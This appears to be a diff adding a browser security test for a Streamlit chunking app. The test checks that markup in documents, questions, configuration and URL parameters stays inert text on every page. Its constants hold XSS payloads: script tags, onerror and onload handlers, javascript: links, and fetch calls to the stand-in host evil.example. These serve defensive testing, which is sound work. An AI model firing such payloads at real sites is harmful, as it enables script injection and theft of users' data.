@@ -1,0 +1,129 @@
+"""Markup in everything that comes from outside, over every page: nothing of it runs, asks a server, or is kept."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from urllib.parse import quote
+from urllib.request import urlopen
+
+import pytest
+from waiting import wait_for_end_of_run
+
+from chunking.cli_app import START
+
+pytestmark = [pytest.mark.browser, pytest.mark.slow]
+APP = Path(__file__).parents[2] / "app.py"
+#: without a slash, as a name of a file
+IMAGE = "<img src=x onerror=trap(1)>"
+TRAP = (
+    "fetch('http:"
+    + "//evil.example/a');localStorage.trap=1;document.cookie='trap=1';alert(1);trap(1)"
+)
+MARKUP = f"""{IMAGE}<script>{TRAP}</script><svg onload="{TRAP}"><iframe srcdoc="<script>{TRAP}</script>"></iframe>
+![x](http://evil.example/b.png) [y](javascript:trap(1)) $\\href{{javascript:trap(1)}}{{z}}$ :red[q]
+<style>@import url(http://evil.example/c.css)</style><form action=http://evil.example><input name=q></form>
+<a href="javascript:trap(1)">w</a><math><mi xlink:href="javascript:trap(1)">m</mi></math>"""
+ON_ONE_LINE = " ".join(MARKUP.split())
+DOCUMENT = "\n\n".join(
+    f"# Part {number} {IMAGE}\n\n{MARKUP}\n\nHigh water of day {number} is late.\n\n| {IMAGE} | b |\n|-|-|\n| =1+1 | {IMAGE} |\n\n```html\n{MARKUP}\n```"
+    for number in range(6)
+)
+#: what would stand in a page where markup was taken for markup, whether a policy lets it run or not; a bare address
+#: is made a link of its own words by Streamlit, as it is everywhere on the web
+TAKEN = (
+    "img[src='x'], img[src*=evil], svg[onload], iframe[srcdoc], [href^='javascript:'], [*|href^='javascript:'],"
+    " form[action*=evil], [onerror]"
+)
+#: what a page shows last
+PAGES = {
+    "Structure": ".outline canvas",
+    "Compare": ".compare .row",
+    "Evaluate": "[data-testid=stDataFrame]",
+    "Experiments": "h4",
+    "Playground": ".passages .card",
+    "Similarity": ".similarity-line",
+    "Autotune": "[data-testid=stBaseButton-primary]",
+}
+
+
+@pytest.fixture
+def files(tmp_path, monkeypatch):
+    """A document, questions and a configuration, each full of markup, which the app opens with."""
+    document = tmp_path / f"{IMAGE}.md"
+    document.write_text(DOCUMENT)
+    questions = tmp_path / "questions.json"
+    about = {"excerpts": ["High water of day 2 is late."], "document": document.name}
+    questions.write_text(json.dumps([{"question": f"When is {ON_ONE_LINE}?", **about}]))
+    configuration = tmp_path / "tuned.yaml"
+    configuration.write_text(
+        f"version: 1\nstrategy: markdown\nroutes:\n- match: '{IMAGE}*.md'\n  strategy: sentence\n"
+    )
+    start = {
+        "documents": [str(document)],
+        "configuration": str(configuration),
+        "questions": str(questions),
+        "project": None,
+        "present": False,
+    }
+    monkeypatch.setenv(START, json.dumps(start))
+    return document
+
+
+@pytest.fixture
+def trapped(page):
+    """The page, with all that it must not do noted."""
+    page.noted = []
+    page.add_init_script("window.trap = () => { window.sprung = true; };")
+    page.on("dialog", lambda dialog: (page.noted.append(dialog.message), dialog.dismiss()))
+    page.on(
+        "request",
+        lambda request: (
+            "evil.example" in request.url.split("?")[0] and page.noted.append(request.url)
+        ),
+    )
+    return page
+
+
+def check(page, where):
+    wait_for_end_of_run(page)
+    assert page.evaluate("() => window.sprung ?? null") is None, where
+    assert page.locator(TAKEN).evaluate_all("(all) => all.map((each) => each.outerHTML)") == [], (
+        where
+    )
+    kept = page.evaluate(
+        "() => [Object.keys(localStorage), Object.keys(sessionStorage), document.cookie].join()"
+    )
+    assert "trap" not in kept.split(","), where
+    assert page.noted == [], where
+    assert page.locator("[data-testid=stException]").count() == 0, where
+
+
+def test_markup_from_outside_is_text_on_every_page(trapped, serve, files):
+    address = serve(APP, "--server.runOnSave=false")
+    trapped.goto(f"{address}/?markdown.chunk_size=40&strategy=markdown")
+    trapped.locator(".viewer .row", has_text="onerror").first.wait_for()
+    trapped.locator(".viewer .row .text").first.click()
+    trapped.locator(".st-key-inspector").filter(visible=True).wait_for()
+    check(trapped, "Tune")
+    for title, last in PAGES.items():
+        trapped.get_by_role("link", name=title).click()
+        if title == "Playground":
+            trapped.get_by_role("searchbox", name="Question").fill(ON_ONE_LINE)
+            trapped.keyboard.press("Enter")
+        trapped.locator(last).first.wait_for()
+        check(trapped, title)
+
+
+def test_markup_in_addresses_is_text_and_an_oversized_one_harms_nobody(trapped, serve, files):
+    address = serve(APP, "--server.runOnSave=false")
+    names = (
+        *("document", "strategy", "markdown.chunk_size", "model", "sentence.tokenizer"),
+        ON_ONE_LINE,
+    )
+    trapped.goto(f"{address}/?{'&'.join(f'{quote(name)}={quote(ON_ONE_LINE)}' for name in names)}")
+    trapped.locator(".viewer .row").first.wait_for()
+    check(trapped, "address")
+    trapped.goto(f"{address}/?document={'a' * 50_000}")
+    with urlopen(f"{address}/_stcore/health") as answer:
+        assert answer.status == 200
